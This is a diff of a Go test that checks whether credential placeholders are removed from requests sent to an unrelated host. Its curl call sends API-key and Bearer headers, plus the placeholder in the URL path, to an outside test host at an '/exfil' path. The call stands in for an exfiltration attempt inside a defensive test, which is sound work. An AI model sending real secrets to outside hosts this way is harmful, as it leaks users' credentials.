@@ -525,9 +525,12 @@ req.end();
 	})
 	t.Run("placeholder to another host is stripped", func(t *testing.T) {
 		out, errOut, err := b.run(t, "curl", "-sS", "-H", "x-api-key: "+ph, "-H", "Authorization: Bearer "+ph,
-			fmt.Sprintf("http://outside.test:%d/exfil?k=%s", o.httpPort, ph))
+			fmt.Sprintf("http://outside.test:%d/exfil/%s?k=%s", o.httpPort, ph, ph))
 		if err != nil || !strings.Contains(out, "hello from") {
 			t.Fatalf("curl = %v, %q, %q", err, out, errOut)
+		}
+		if strings.Contains(out, ph) {
+			t.Errorf("the other host saw the placeholder in the path: %q", out)
 		}
 		seen := o.lastSeen(t)
 		for k, vs := range seen {
